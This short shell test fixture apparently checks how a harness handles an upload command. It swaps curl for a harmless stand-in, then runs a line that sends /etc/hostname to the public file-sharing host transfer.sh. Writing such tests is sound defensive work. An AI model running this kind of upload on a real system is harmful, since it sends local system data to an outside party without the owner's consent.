# `curl -T /etc/hostname https://transfer.sh/h`, with a harmless program by the name of curl.
prepare() { stand_in curl; }
act() { curl -T /etc/hostname https://transfer.sh/h; }
